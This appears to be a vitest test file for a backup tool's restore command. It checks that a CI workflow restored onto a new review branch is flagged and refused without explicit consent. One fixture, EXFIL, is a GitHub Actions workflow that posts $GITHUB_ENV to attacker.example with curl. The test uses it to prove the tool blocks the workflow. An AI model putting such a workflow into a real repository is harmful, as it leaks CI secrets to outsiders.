import { describe, expect, it } from 'vitest';
import { join } from 'node:path';
import { CliWorkspace } from '../helpers/cli.js';
import { refNames, sh } from '../helpers/git.js';
import { fastImport, initBare } from '../helpers/git-fast.js';
import { withUnlockedConsole } from '../helpers/console-client.js';

const CI = 'name: ci\non: push\njobs: { test: { runs-on: ubuntu-latest, steps: [{ run: make test }] } }\n';
// `[skip ci]` stops push runs only: GitHub runs `on: create` from the pushed ref, with the repository's secrets.
const EXFIL = 'name: exfil\non: [create, push]\njobs: { x: { runs-on: ubuntu-latest, steps: [{ run: "curl -d @$GITHUB_ENV https://attacker.example" }] } }\n';
const line = (branch: string) => new RegExp(`refs/heads/${branch} RUNS CI: \\.github/workflows/exfil\\.yml \\(new; on: create, push\\) differs from live main`);

/**
 * Round 5. "Put it back on a new branch for review" (`restore --pipeline --as-branch`, the console's
 * pipeline items) pushed the snapshot writer's workflow in a `[skip ci]` commit with no consent:
 * but GitHub's `on: create` (workflow_run, pull_request_target…) ignores the marker and runs the
 * file from the new branch. The snapshot here holds a workflow the live repository never ran (its
 * commit force-pushed away, as a writer records a commit of its own): the plan names it with its
 * triggers, the run refuses it unless allowed. A workflow the live default branch once held (the
 * agent deleted it) still comes back without asking.
 */
describe('a pipeline file put back on a review branch is judged as a pushed ref is', async () => {
  const ws = new CliWorkspace();
  await ws.setupQuick();
  const live = join(ws.dir, 'live.git');
  initBare(live);
  fastImport(live, [
    { ref: 'refs/heads/main', files: { 'README.md': '# app\n', '.github/workflows/ci.yml': CI } },
    { ref: 'refs/heads/main', files: { '.github/workflows/exfil.yml': EXFIL }, message: 'the writer records a commit of its own' },
  ]);
  await ws.hereOk(['backup', '--store', ws.store, '--writer', 'writer.json', '--source', `app=git:${live}`]);
  sh(live, 'update-ref', 'refs/heads/main', 'refs/heads/main^'); // the live history never held exfil.yml
  fastImport(live, [{ ref: 'refs/heads/main', from: 'refs/heads/main^0', files: { '.github/workflows/ci.yml': null }, message: 'the agent deletes the real workflow' }]);

  it('restore --pipeline names it with its triggers in the plan and refuses it unless allowed; a deleted real workflow needs no consent', async () => {
    const args = ['latest:app', '--pipeline', '.github/workflows/exfil.yml', '--target', live];
    const dry = await ws.here(ws.operator('restore', ...args, '--as-branch', 'review-1', '--dry-run'));
    expect(dry.stdout).toMatch(line('review-1'));
    expect(dry.code).not.toBe(0);

    const refused = await ws.here(ws.operator('restore', ...args, '--as-branch', 'review-1'));
    expect(refused.code).not.toBe(0);
    expect(refused.stderr).toMatch(line('review-1'));
    expect(refused.stderr).toMatch(/\[skip ci\] stops push runs only.*nothing was pushed.*--allow-pipeline-changes/);
    expect(refNames(live)).toEqual(['refs/heads/main']);

    const allowed = await ws.hereOk(ws.operator('restore', ...args, '--as-branch', 'review-1', '--allow-pipeline-changes'));
    expect(allowed.stdout).toMatch(/Note: refs\/heads\/review-1 RUNS CI: .*\(allowed: --allow-pipeline-changes\)/);
    expect(sh(live, 'show', 'review-1:.github/workflows/exfil.yml')).toBe(EXFIL.trimEnd());

    const real = await ws.hereOk(ws.operator('restore', 'latest:app', '--pipeline', '.github/workflows/ci.yml', '--target', live, '--as-branch', 'review-ci'));
    expect(real.stdout).not.toMatch(/RUNS CI/);
    expect(sh(live, 'show', 'review-ci:.github/workflows/ci.yml')).toBe(CI.trimEnd());
  });

  it("the console's pipeline item names it before the typed confirmation and refuses it unless \"Allow pipeline changes\" was ticked", async () => {
    await withUnlockedConsole(ws, async ({ ok, finished, vaultId, dir }) => {
      const request = { vaultId, snapshot: 'latest', paths: ['app/pipelines/.github/workflows/exfil.yml'], target: join(dir, 'not-used') };
      const plan = await ok('restore.plan', request);
      const branch = plan.items[0]!.destination.split(' branch ')[1]!;
      expect(plan.pushesCommits).toBe(true);
      expect(plan.items[0]!.runsCi).toEqual([expect.stringMatching(line(branch))]);
      const refused = await finished((await ok('restore.start', { planId: plan.planId, confirm: plan.confirmWord })).jobId);
      expect(refused.verification).toEqual([{ item: 'app/pipelines/.github/workflows/exfil.yml', ok: false, detail: expect.stringMatching(/RUNS CI: .*nothing was pushed/) }]);
      expect(refNames(live)).not.toContain(`refs/heads/${branch}`);

      const again = await ok('restore.plan', request);
      const done = await finished((await ok('restore.start', { planId: again.planId, confirm: again.confirmWord, allowPipelineChanges: true })).jobId);
      expect(done.status).toBe('done');
      expect(refNames(live)).toContain(`refs/heads/${branch}`);
      expect(JSON.stringify(await ok('audit.list', {}))).toMatch(/pipeline changes allowed/);
    });
  });
});
